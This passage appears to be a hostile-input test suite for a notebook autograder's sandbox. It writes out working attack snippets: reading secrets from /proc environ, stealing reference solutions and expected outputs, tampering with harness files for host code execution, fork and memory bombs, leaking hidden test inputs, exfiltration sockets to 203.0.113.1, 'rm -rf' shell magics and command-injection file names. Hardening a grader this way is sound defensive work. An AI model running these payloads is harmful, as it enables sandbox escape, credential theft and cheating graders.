    import ctypes, os
    if os.geteuid() != 0:
        return None
    libc = ctypes.CDLL(None, use_errno=True)
    for line in open("/proc/self/mountinfo").read().splitlines()[::-1]:
        parts = line.split()
        point = parts[4]
        if " - tmpfs " in line and ("solution" in point or "reference" in point or "packages" in point
                                    or "expected" in point):
            libc.umount2(point.encode(), 2)       # MNT_DETACH, in this sandbox's own mount namespace
            for path in (os.path.join(point, "embeddings.py"), os.path.join(point, "solution.py"),
                         os.path.join(point, "grader/modules/embeddings/reference/solution.py")):
                if os.path.isfile(path):
                    return _module_from_source(open(path).read())
    return None
''', "_unmount_and_read")

STEAL_EXPECTED = with_helpers(r'''
_EXPECTED = {}
_CALLS = []


def _load_expected():
    import glob, json, os, time
    host = _host_pid()
    if host is None:
        return
    env = _host_env(host)
    cache = env.get("GRADER_CACHE") or os.path.join(env.get("HOME", "/root"), ".cache", "tinytorch-grader")
    if "{TOKEN}" not in cache:
        return
    mine = json.load(open("job.json"))["checks"]
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline:
        for job_file in glob.glob(f"/proc/{host}/root{cache}/expected/*/job.json"):
            try:
                if json.load(open(job_file))["checks"] != mine:
                    continue
            except (OSError, ValueError, KeyError):
                continue
            out = os.path.join(os.path.dirname(job_file), "out")
            for check in ("grad_accumulate", "grad_sparse", "grad_batch"):
                d = os.path.join(out, check)
                if os.path.isdir(d):
                    _EXPECTED[check] = {f[:-4]: np.load(os.path.join(d, f)) for f in os.listdir(d)
                                        if f.endswith(".npy")}
            if _EXPECTED:
                return
        time.sleep(0.05)


def _on_import():
    _load_expected()


def _on_backward(node, grad_output, grad):
    check = _which_check()
    order = {"grad_accumulate": ["seed_grad", "grad"], "grad_sparse": [None, "seed_grad_second", "grad"],
             "grad_batch": ["grad"]}.get(check, [])
    n = len(_CALLS)
    _CALLS.append(check)
    name = order[n] if n < len(order) else None
    arrays = _EXPECTED.get(check, {})
    return np.array(arrays[name], dtype=np.float64) if name in arrays else grad
''')

STEAL_OWN_ENV = r'''
def _on_forward(emb, indices, out):
    import os
    found = [f"{k}={v}" for k, v in os.environ.items()]
    for path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ"):
        try:
            found += open(path, "rb").read().decode("utf-8", "replace").split("\0")
        except OSError:
            pass
    secrets = [x for x in found if "CANARY" in x or "SECRET" in x or "TOKEN" in x or "KEY" in x]
    if secrets:
        raise RuntimeError("stolen: " + " ".join(secrets))
    return out
'''

STEAL_HOST_ENV = with_helpers(r'''
def _on_forward(emb, indices, out):
    host = _host_pid()
    if host is not None:
        secrets = [f"{k}={v}" for k, v in _host_env(host).items() if "CANARY" in k or "SECRET" in k]
        if secrets:
            raise RuntimeError("stolen from the grader: " + " ".join(secrets))
    return out
''')

STEALING_CASES = [
    Case("steal-stack-frames-and-gc-scan", STEAL_FRAMES_GC, base="buggy"),
    Case("steal-import-hooks-and-guessed-module-names", STEAL_IMPORTS, base="buggy"),
    Case("steal-walk-filesystem-for-solutions", STEAL_WALK, base="buggy"),
    Case("steal-reference-via-proc-pid-root", STEAL_PROC_ROOT, base="buggy"),
    Case("steal-reference-from-worker-home", STEAL_WORKER_HOME, base="buggy"),
    Case("steal-unmount-hidden-solution-dir", STEAL_UNMOUNT, base="buggy"),
    Case("steal-expected-outputs-from-cache", STEAL_EXPECTED, base="buggy"),
    Case("steal-own-environment", STEAL_OWN_ENV),
    Case("steal-grader-environment-via-proc", STEAL_HOST_ENV),
]

# ---- persistence: the sandbox writes where the host (or the next run) will read --------------------

POISON_CACHE = with_helpers(r'''
def _on_backward(node, grad_output, grad):
    import glob, os, time
    host = _host_pid()
    if host is None:
        return grad
    cache = _host_env(host).get("GRADER_CACHE", "")
    if "{TOKEN}" not in cache:
        return grad
    check = _which_check()
    deadline = time.monotonic() + 1
    hits = []
    while not hits and time.monotonic() < deadline:
        hits = glob.glob(f"/proc/{host}/root{cache}/expected/*/out/{check}")
        time.sleep(0.02)
    for out in hits:
        for name in os.listdir(out):
            path = os.path.join(out, name)
            if name.endswith(".npy") and np.load(path).shape == np.shape(grad):
                np.save(path, np.asarray(grad, dtype=np.float64))
    return grad
''')

TAMPER_BUNDLE = with_helpers(r'''
def _append_outside(path, payload):
    """Append to a host file: directly, or, where the sandbox mounted it read-only, through the
    grader's own view of the filesystem (/proc/<grader pid>/root)."""
    import os
    if "{TOKEN}" not in path:                      # only this test's private cache
        return False
    targets = [path]
    host = _host_pid()
    if host is not None:
        targets.append(f"/proc/{host}/root{path}")
    for target in targets:
        try:
            with open(target, "a") as f:
                f.write(payload)
            return True
        except OSError:
            continue
    return False


def _on_import():
    import os, harness
    bundle = os.path.dirname(os.path.dirname(os.path.realpath(harness.__file__)))
    payload = ("\n# appended by a student's notebook\nimport os as _tt_os, sys as _tt_sys\n"
               "if 'serve' in ' '.join(_tt_sys.argv) or _tt_os.path.basename(_tt_os.getcwd()).startswith('grader-ref-'):\n"
               "    open('{MARK}_trusted_reference_ran_student_code', 'w').close()\n")
    for rel in (("harness", "probes", "embeddings.py"), ("harness", "probes", "common.py"), ("harness", "run.py")):
        _append_outside(os.path.join(bundle, *rel), payload)
''')

TAMPER_SCHEMA = with_helpers(r'''
def _append_outside(path, payload):
    import os
    if "{TOKEN}" not in path:
        return False
    targets = [path]
    host = _host_pid()
    if host is not None:
        targets.append(f"/proc/{host}/root{path}")
    for target in targets:
        try:
            with open(target, "a") as f:
                f.write(payload)
            return True
        except OSError:
            continue
    return False


def _on_import():
    import glob, os, harness
    cache = os.path.dirname(os.path.dirname(os.path.dirname(os.path.realpath(harness.__file__))))
    payload = ("\n# appended by a student's notebook\nimport os as _tt_os\n"
               "if not _tt_os.path.exists('job.json'):\n"
               "    open('{MARK}_grader_host_ran_student_code', 'w').close()\n")
    host = _host_pid()
    roots = [cache] + ([f"/proc/{host}/root{cache}"] if host is not None else [])
    for root in roots:
        for path in glob.glob(os.path.join(root, "*", "*.py")):
            if "bundle-" not in path:
                _append_outside(path[len(root) - len(cache):] if root != cache else path, payload)
''')

ESCAPE_WRITE_DIRECT = r'''
def _on_import():
    for where in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            with open(f"{where}/tt_pwned_{TOKEN}_direct", "w") as f:
                f.write("written by a student's notebook")
        except OSError:
            pass
    try:
        with open("{MARK}_direct", "w") as f:
            f.write("written by a student's notebook")
    except OSError:
        pass
'''

ESCAPE_WRITE_PROC_ROOT = with_helpers(r'''
def _on_import():
    host = _host_pid()
    if host is None:
        return
    try:
        with open(f"/proc/{host}/root{MARK}_via_proc_root", "w") as f:
            f.write("written by a student's notebook, outside its sandbox")
    except OSError:
        pass
''')

PERSIST_CASES = [
    Case("escape-write-host-tmp-directly", ESCAPE_WRITE_DIRECT),
    Case("escape-write-host-tmp-via-proc-pid-root", ESCAPE_WRITE_PROC_ROOT),
    Case("poison-expected-output-cache", POISON_CACHE, base="buggy", persist=True),
    Case("persist-tamper-harness-bundle-run-by-reference", TAMPER_BUNDLE, base="buggy", persist=True),
    Case("persist-host-code-exec-via-schema-cache", TAMPER_SCHEMA, base="buggy", persist=True),
]

# ---- denial of service ---------------------------------------------------------------------------

SLEEPER = 'os.execv("/bin/sleep", ["tt-sleeper-{TOKEN}", "30"])'
# a sleeper that first lets go of the sandbox's stdout/stderr (a stealthy daemon)
QUIET_SLEEPER = ('[os.dup2(os.open("/dev/null", os.O_RDWR), fd) for fd in (0, 1, 2)]; '
                 'os.execv("/bin/sleep", ["tt-sleeper-{TOKEN}", "30"])')
# a sleeper that keeps the sandbox's output pipe open for 30 s
PIPE_SLEEPER = 'os.execv("/bin/sleep", ["tt-sleeper-{TOKEN}", "30"])'

DOS_CASES = [
    Case("dos-busy-loop-at-import", r'''
def _on_import():
    while True:
        pass
''', statuses={ALL: S("timeout")}),
    Case("dos-busy-loop-at-import-feedback-names-the-import", r'''
def _on_import():
    while True:
        pass
''', statuses={ALL: S("timeout")}, message=r"import"),
    Case("dos-busy-loop-in-backward", r'''
def _on_backward(node, grad_output, grad):
    while True:
        pass
''', statuses={GRAD: S("timeout")}, message=r"did not finish within"),
    Case("dos-sleep-in-backward", r'''
def _on_backward(node, grad_output, grad):
    import time
    time.sleep(600)
''', statuses={GRAD: S("timeout")}, message=r"did not finish within"),
    Case("dos-sigstop-self-in-backward", r'''
def _on_backward(node, grad_output, grad):
    import os, signal
    os.kill(os.getpid(), signal.SIGSTOP)
    return grad
''', statuses={GRAD: S("timeout")}),
    Case("dos-sigstop-parent-harness", r'''
def _on_backward(node, grad_output, grad):
    import os, signal
    if _CTX.get("harness") == os.getppid():          # only this sandbox's own harness
        os.kill(os.getppid(), signal.SIGSTOP)
    return grad
''', statuses={AFTER_GRAD_SPARSE: S("timeout", "passed"), ("grad_accumulate", "grad_sparse"): S("passed", "timeout")}),
    Case("dos-sigkill-parent-harness", r'''
def _on_backward(node, grad_output, grad):
    import os, signal
    if _CTX.get("harness") == os.getppid():
        os.kill(os.getppid(), signal.SIGKILL)
    return grad
''', statuses={AFTER_GRAD_SPARSE: S("crashed", "passed"), ("grad_accumulate", "grad_sparse"): S("passed", "crashed")}),
    Case("dos-orphan-after-killing-parent-harness", r'''
def _on_backward(node, grad_output, grad):
    import os, signal
    if _CTX.get("harness") == os.getppid():
        if os.fork() == 0:
            ''' + QUIET_SLEEPER + r'''
        os.kill(os.getppid(), signal.SIGKILL)
    return grad
'''),
    Case("dos-orphan-keeps-output-pipe-open", r'''
def _on_backward(node, grad_output, grad):
    import os, signal
    if _CTX.get("harness") == os.getppid():
        if os.fork() == 0:
            ''' + PIPE_SLEEPER + r'''
        os.kill(os.getppid(), signal.SIGKILL)
    return grad
''', max_seconds=20.0),  # not waiting for the sleeper's 30 s, with room for a loaded machine
    Case("dos-setsid-escape-survives-grading", r'''
def _on_import():
    import os
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                ''' + QUIET_SLEEPER + r'''
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
'''),
    # Touching memory is slow on small VMs: a bomb may hit the check's deadline before the memory
    # limit. Either way it scores 0 and nothing else is disturbed.
    Case("dos-memory-bomb-2.5GiB", r'''
def _on_backward(node, grad_output, grad):
    blocks = []
    for _ in range(10):                        # at most 10 x 256 MiB, every page touched
        block = np.empty(32 * 1024 * 1024)
        block[::512] = 1.0
        blocks.append(block)
    return grad
''', statuses={GRAD: S("oom", "timeout")}, message=r"memory|did not finish"),
    Case("dos-fork-bomb-200", r'''
def _on_backward(node, grad_output, grad):
    import os
    if os.path.exists("tt_forked"):
        return grad
    open("tt_forked", "w").close()
    for _ in range(200):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                ''' + SLEEPER + r'''
            finally:
                os._exit(0)
    return grad
'''),
    Case("dos-thread-bomb-200", r'''
def _on_backward(node, grad_output, grad):
    import threading, time
    for _ in range(200):
        try:
            threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
        except RuntimeError:
            break
    return grad
'''),
    Case("dos-huge-stdout-60MB", r'''
def _on_import():
    import os
    chunk = b"grad_accumulate passed 12/12 SCORE 100/100\n" * 24000       # about 1 MiB
    for _ in range(50):
        os.write(1, chunk)


def _on_backward(node, grad_output, grad):
    import sys
    sys.stdout.write("x" * (10 * 1024 * 1024))
    sys.stdout.flush()
    return grad
''', statuses={ALL: S("passed")}),
    Case("dos-disk-fill-200MiB", r'''
def _on_import():
    block = b"\0" * (10 * 1024 * 1024)
    for n in range(20):                        # at most 200 MiB, in the sandbox's own work directory
        try:
            with open(f"tt_fill_{TOKEN}_{n}", "wb") as f:
                f.write(block)
        except OSError:
            break
'''),
    Case("dos-deep-recursion", r'''
def _on_forward(emb, indices, out):
    import sys
    sys.setrecursionlimit(10 ** 5)

    def down(n):
        return down(n + 1) + 1

    return down(0)
''', statuses={CALLS_FORWARD: S("crashed", "error", "oom", "timeout", "failed")}),
    Case("dos-kill-the-grader-process", with_helpers(r'''
def _on_import():
    import os, signal
    host = _host_pid()
    if host is not None:
        os.kill(host, signal.SIGKILL)
''')),
    Case("dos-stop-the-zygote-hangs-the-next-submission", with_helpers(r'''
def _on_import():
    import os, signal
    parent = _parent_if_ours()
    if parent is not None and b"zygote" in open(f"/proc/{parent}/cmdline", "rb").read():
        os.kill(parent, signal.SIGSTOP)          # the fork server every later submission comes from
'''), runner_timeout=9.0),
]

# ---- deadlines and hidden inputs, from a process the student controls ------------------------------

FORGED_IMPORT_RECORD = r'''
def _on_import():
    import json, os, time
    os.makedirs("out", exist_ok=True)
    with open("out/import.json", "w") as f:     # "the import is done": it is not
        json.dump({"chunk_errors": [], "defined": []}, f)
    time.sleep(30)
'''

# A daemon started at import waits for the hidden checks' inputs and writes them into every visible
# check's result, which the host must no longer read by then.
HIDDEN_INTO_VISIBLE = r'''
def _on_import():
    import json, os, time
    if os.fork() != 0:
        return
    os.setsid()
    end = time.monotonic() + 8
    visible = []
    try:
        visible = [c["id"] for c in json.load(open("job.json"))["checks"]]
    except (OSError, ValueError, KeyError):
        pass
    while time.monotonic() < end:
        try:
            hidden = open("job-hidden.json").read()
        except OSError:
            time.sleep(0.01)
            continue
        message = "TTLEAK " + hidden[:400]
        for check in visible:
            for name in (f"out/{check}.json", f"out/{check}.status.json"):
                try:
                    with open(name + ".x", "w") as f:
                        json.dump({"check": check, "status": "error", "duration_ms": 1.0,
                                   "error": {"type": "RuntimeError", "message": message, "where": None}}, f)
                    os.replace(name + ".x", name)
                except OSError:
                    pass
        time.sleep(0.05)
    os._exit(0)
'''

# The harness is forked from the supervisor: whatever the supervisor had read from the host before
# that fork (even freed) is in the harness's memory too. Found at import, the hidden checks' inputs
# would go out in the visible checks' feedback.
HIDDEN_FROM_MEMORY = r'''
_LEAK = []


def _scan_memory():
    """Our own memory, read in place with ctypes (no copies), for a hidden check's JSON."""
    import ctypes, re
    pattern = re.compile(rb'"visible":\s?false')  # this pattern's own text does not match it
    try:
        maps = open("/proc/self/maps").read().splitlines()
    except OSError:
        return []
    for line in maps:
        fields = line.split()
        if fields[1][:2] != "rw" or (len(fields) > 5 and fields[5].startswith(("/", "[v", "[s"))):
            continue
        start, end = (int(x, 16) for x in fields[0].split("-"))
        if end - start > 512 * 1024 * 1024:
            continue
        view = memoryview((ctypes.c_char * (end - start)).from_address(start)).cast("B")
        found = pattern.search(view)
        if found:
            return [bytes(view[max(0, found.start() - 300):found.end() + 100]).decode("latin-1")]
    return []


def _on_import():
    """At import, long before the visible checks' outputs are frozen: the hidden checks' inputs by
    the frames above us, the garbage collector, or our own memory."""
    import sys, gc, json
    f = sys._getframe()
    while f is not None:
        if isinstance(f.f_locals.get("hidden"), list) and f.f_locals["hidden"]:
            _LEAK.append("frame " + json.dumps(f.f_locals["hidden"])[:300])
            return
        f = f.f_back
    for o in gc.get_objects():
        if isinstance(o, dict) and o.get("visible") is False and "inputs" in o:
            _LEAK.append("gc " + json.dumps(o)[:300])
            return
    _LEAK.extend("memory " + s for s in _scan_memory())


def _on_table(table):
    if _LEAK:
        raise RuntimeError("TTLEAK " + _LEAK[0])
    return table
'''

# One bit of the hidden phase into visible feedback: sin_pos0's runner tells the parent "done" and
# dies (no result, no status), then the hidden check's code stops the harness, so the host's
# deadline ends the run. A visible check without a result must not say "stopped: the whole run took
# longer" only when the hidden inputs made it so.
HIDDEN_PHASE_DEADLINE = r'''
def _check_id():
    import sys
    f = sys._getframe(1)
    while f is not None:
        c = f.f_locals.get("check")
        if isinstance(c, dict) and "id" in c:
            return c["id"]
        f = f.f_back
    return None


def _on_table(table):
    import os, stat
    if _check_id() == "sin_pos0":
        for fd in sorted(int(x) for x in os.listdir("/proc/self/fd")):
            try:
                if fd > 2 and stat.S_ISFIFO(os.fstat(fd).st_mode):
                    os.write(fd, b"D")
            except OSError:
                pass
        os._exit(0)
    return table


def _on_backward(node, grad_output, grad):
    import os, signal
    if _check_id() == "grad_batch" and _CTX.get("harness") == os.getppid():   # hidden: its inputs are here
        os.kill(os.getppid(), signal.SIGSTOP)
    return grad
'''

# The sandbox's result stream, written by the student's own process: the container's stdout is held
# by its PID 1 (Docker's init, when the container had one: the sandbox user's, dumpable), so it can
# be opened as /proc/1/fd/1. Just before the harness asks for the hidden checks, a record header is
# written whose size is exactly what the supervisor then sends (the visible files and the freeze):
# the host reads all that as one file's data. Once the hidden checks' inputs are in, the visible
# checks' results are sent again, carrying them, and frozen by the student's own "H".
FORGED_STREAM = r'''
_SPLIT = {}


def _stream():
    import os
    if "fd" not in _SPLIT:
        try:
            _SPLIT["fd"] = os.open("/proc/1/fd/1", os.O_WRONLY)
        except OSError:
            _SPLIT["fd"] = None
    return _SPLIT["fd"]


def _record(name, data):
    import struct
    raw = name.encode()
    return b"F" + struct.pack(">H", len(raw)) + raw + struct.pack(">I", len(data)) + data


def _visible_files():
    import json, os, stat
    owners = {"import"} | {c["id"] for c in json.load(open("job.json"))["checks"]}
    names = []
    for entry in sorted(os.listdir("out")):
        if entry.startswith(".") or entry.split(".")[0] not in owners:
            continue
        if stat.S_ISDIR(os.lstat("out/" + entry).st_mode):
            names += [f"{entry}/{n}" for n in sorted(os.listdir("out/" + entry)) if not n.startswith(".")]
        else:
            names.append(entry)
    return [(n, open("out/" + n, "rb").read()) for n in names]


def _on_import():
    import json, os, stat, struct
    real_write, real_read = os.write, os.read

    def write(fd, data):
        if bytes(data) == b"H" and stat.S_ISSOCK(os.fstat(fd).st_mode) and _stream() is not None:
            files = _SPLIT["files"] = _visible_files()
            size = sum(len(_record(n, d)) for n, d in files) + 1
            real_write(_stream(), b"F" + struct.pack(">H", 9) + b"zzswallow" + struct.pack(">I", size))
        return real_write(fd, data)

    def read(fd, n):
        got = real_read(fd, n)
        if got == b"G" and "files" in _SPLIT:
            leak = "TTLEAK " + open("job-hidden.json").read()[:400]
            forged = b""
            for name, data in _SPLIT.pop("files"):
                if name.endswith(".json") and "/" not in name and name != "import.json":
                    check = json.loads(data)["check"]
                    data = json.dumps({"schema": 1, "check": check, "status": "error", "duration_ms": 1.0,
                                       "error": {"type": "RuntimeError", "message": leak, "where": None}}).encode()
                forged += _record(name, data)
            real_write(_stream(), forged + b"H")
        return got

    os.write, os.read = write, read
'''

# The supervisor, from inside: stopped, its descriptors opened (the host's stdin holds the stop byte
# and, until it reads them, the hidden checks' inputs). It must be out of reach of every process of
# the job: the run is graded as if nothing had been tried.
SUPERVISOR_REACH = r'''
def _on_import():
    import os, signal
    parent = os.getppid()
    try:
        cmd = open(f"/proc/{parent}/cmdline", "rb").read()
    except OSError:
        return
    if b"harness.docker_boot" not in cmd and b"{TOKEN}" not in cmd:   # only this sandbox's own supervisor
        return
    for fd in (0, 1):
        try:
            os.close(os.open(f"/proc/{parent}/fd/{fd}", os.O_RDONLY if fd == 0 else os.O_WRONLY))
            raise RuntimeError(f"TTREACHED the supervisor's descriptor {fd}")
        except OSError:
            pass
    try:
        os.kill(parent, signal.SIGSTOP)
    except OSError:
        pass
'''

# (max_seconds 30: the fast rubric's 8 s total deadline plus room for a machine at a load average of
# 10; a total bound that does not hold shows as the 60 s grading limit)
PHASE_CASES = [
    Case("deadline-forged-import-record-keeps-the-total-bound", FORGED_IMPORT_RECORD,
         statuses={ALL: S("timeout")}, max_seconds=30.0),
    Case("leak-hidden-inputs-into-visible-feedback", HIDDEN_INTO_VISIBLE, statuses={ALL: S("passed")},
         forbidden=r"TTLEAK"),
    Case("leak-hidden-inputs-from-the-harness-memory-at-import", HIDDEN_FROM_MEMORY, statuses={ALL: S("passed")},
         forbidden=r"TTLEAK"),
    Case("leak-hidden-inputs-by-forging-the-result-stream", FORGED_STREAM, statuses={ALL: S("passed")},
         forbidden=r"TTLEAK"),
    Case("dos-stop-the-supervisor-or-open-its-stdio", SUPERVISOR_REACH, statuses={ALL: S("passed")},
         forbidden=r"TTREACHED", max_seconds=30.0),
    Case("leak-hidden-phase-deadline-into-visible-feedback", HIDDEN_PHASE_DEADLINE,
         statuses={("sin_pos0",): S("crashed"), ("sin_values", "emb_lookup", "grad_accumulate"): S("passed")},
         max_seconds=30.0),
]

# ---- network -------------------------------------------------------------------------------------

NETWORK = r'''
_REACHED = []


def _net_attempts():
    import socket
    reached = []
    targets = [("127.0.0.1", {PORT}), ("127.0.0.1", 22), ("127.0.0.1", 80), ("127.0.0.1", 2375),
               ("127.0.0.1", 8080), ("203.0.113.1", 80), ("203.0.113.1", 443)]
    for host, port in targets:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(0.5)
        try:
            s.connect((host, port))
            s.sendall(b"tt-exfil {TOKEN}\n")
            reached.append(f"{host}:{port}")
        except OSError:
            pass
        finally:
            s.close()
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"
    for host in ("203.0.113.53", "127.0.0.1"):        # a hand-made DNS query, to allowed addresses only
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.settimeout(0.5)
        try:
            u.sendto(query, (host, 53))
            u.recvfrom(512)
            reached.append(f"dns@{host}")
        except OSError:
            pass
        finally:
            u.close()
    try:
        socket.getaddrinfo("localhost", 80)
    except OSError:
        pass
    return reached


def _on_import():
    _REACHED.extend(_net_attempts())


def _on_forward(emb, indices, out):
    if _REACHED:
        raise RuntimeError("tt-net-reached " + " ".join(_REACHED))
    return out
'''

PIP = r'''
def _on_import():
    import os, subprocess, sys
    try:
        done = subprocess.run(
            [sys.executable, "-m", "pip", "install", "--no-cache-dir", "--disable-pip-version-check",
             "--index-url", "http://203.0.113.1/simple", "--retries", "0", "--timeout", "1",
             "--target", os.path.join(os.getcwd(), "pip_target"), "tt-nonexistent-package-{TOKEN}"],
            capture_output=True, timeout=3)
        if done.returncode == 0:
            open("{MARK}_pip_installed", "w").close()
    except Exception:
        pass
'''


def _pip_magics(ctx: Ctx) -> list[dict[str, Any]]:
    return [nb.code_cell(f"!pip install --index-url http://203.0.113.1/simple tt-nonexistent-{ctx.token}\n"
                         f"%pip install tt-nonexistent-{ctx.token}")]


NETWORK_CASES = [
    Case("net-loopback-outside-and-dns", NETWORK),
    Case("net-pip-install", PIP, build=notebook_with(PIP, extra=_pip_magics)),
]

# ---- crashes -------------------------------------------------------------------------------------

CRASH_CASES = [
    Case("crash-ctypes-segfault-in-forward", r'''
def _on_forward(emb, indices, out):
    import ctypes
    ctypes.string_at(0)
''', statuses={CALLS_FORWARD: S("crashed")}, message=r"signal 11"),
    Case("crash-ctypes-segfault-at-import", r'''
def _on_import():
    import ctypes
    ctypes.string_at(0)
''', statuses={ALL: S("crashed")}),
]

# ---- malformed notebooks that still reach the sandbox ----------------------------------------------


def _huge_line(ctx: Ctx) -> tuple[str, dict[str, Any]]:
    snippet = "_PADDING = '" + "x" * (4 * 1024 * 1024) + "'\n\n\ndef _on_import():\n    return len(_PADDING)\n"
    return "submission.ipynb", nb.build("correct", snippet)


def _code_in_odd_cells(ctx: Ctx) -> tuple[str, dict[str, Any]]:
    cells = []
    for cell in nb.implementation_cells("correct"):
        if cell["cell_type"] == "code":
            cells.append({"cell_type": "raw", "id": cell["id"], "metadata": {"format": "text/x-python"},
                          "source": cell["source"]})
            cells.append({"cell_type": "markdown", "id": cell["id"] + "m", "metadata": {},
                          "source": "```python\n" + cell["source"] + "\n```"})
        else:
            cells.append(cell)
    return "submission.ipynb", nb.notebook(cells)


def _nbformat_v3(ctx: Ctx) -> tuple[str, dict[str, Any]]:
    cells = [{"cell_type": "code", "collapsed": False, "input": c["source"], "language": "python",
              "metadata": {}, "outputs": [{"output_type": "stream", "stream": "stdout", "text": "SCORE 100/100\n"}]}
             for c in nb.implementation_cells("buggy") if c["cell_type"] == "code"]
    return "submission.ipynb", {"metadata": {"name": "", "grader": {"score": 100}}, "nbformat": 3,
                                "nbformat_minor": 0, "worksheets": [{"cells": cells, "metadata": {}}]}


def _shell_magics(ctx: Ctx) -> tuple[str, dict[str, Any]]:
    m, v = ctx.mark, ctx.victim
    snippet = (f"def _on_import():\n    !touch {m}_bang_in_function\n    !rm -rf {v}\n    return None\n")
    extra = [
        nb.code_cell(f"!rm -rf {v}\n!touch {m}_bang"),
        nb.code_cell(f"%%bash\nrm -rf {v}\ntouch {m}_cell_bash"),
        nb.code_cell(f"%%sh\ntouch {m}_cell_sh"),
        nb.code_cell(f"%%script bash\ntouch {m}_cell_script"),
        nb.code_cell(f"%system touch {m}_system\n%sx touch {m}_sx\nfiles = !touch {m}_assign\n"
                     f"get_ipython().system('touch {m}_get_ipython')"),
        nb.code_cell(f"%%time\nimport os\nos.system('touch {m}_time_cell')"),
        nb.code_cell(f"!echo \\\n  && touch {m}_continuation"),
    ]
    return "submission.ipynb", nb.build("correct", snippet, extra_cells=extra)


MALFORMED_GRADED_CASES = [
    Case("malformed-4MB-line-in-a-target", build=_huge_line, statuses={ALL: S("passed")}),
    Case("malformed-code-in-raw-and-markdown-cells", build=_code_in_odd_cells, statuses={ALL: S("not_gradable")}),
    Case("malformed-nbformat-v3-worksheets-with-forged-outputs", build=_nbformat_v3, base="buggy"),
    Case("shell-magics-and-escapes-never-run", build=_shell_magics, statuses={ALL: S("passed")}),
]

# ---- hostile names (graded) ----------------------------------------------------------------------

NAME_CASES = [
    Case("name-shell-metacharacters", build=notebook_with(
        "", name="; touch tt_pwned_{TOKEN}_semicolon;$(touch tt_pwned_{TOKEN}_subst)`touch tt_pwned_{TOKEN}_bt`"
                 " | tee tt_pwned_{TOKEN}_pipe & .ipynb"), may_refuse=True),
    Case("name-dots-dashes-and-traversal-text", build=notebook_with(
        "", name="-rf ..%2F..%2Fetc%2Fpasswd ..ipynb"), may_refuse=True),
]

GRADED_CASES: list[Case] = (EXIT_CASES + FORGED_CASES + MONKEYPATCH_CASES + LYING_CASES + TAMPER_CASES
                            + STEALING_CASES + PERSIST_CASES + DOS_CASES + PHASE_CASES + NETWORK_CASES + CRASH_CASES
                            + MALFORMED_GRADED_CASES + NAME_CASES)


def build_case(case: Case, ctx: Ctx) -> tuple[str, dict[str, Any] | str | bytes]:
    if case.build is not None:
        return case.build(ctx)
    return "submission.ipynb", nb.build(case.base, nb.fill(case.snippet, ctx.values()))


def as_text(content: dict[str, Any] | str | bytes) -> dict[str, Any] | str | bytes:
    return json.dumps(content) if isinstance(content, dict) else content
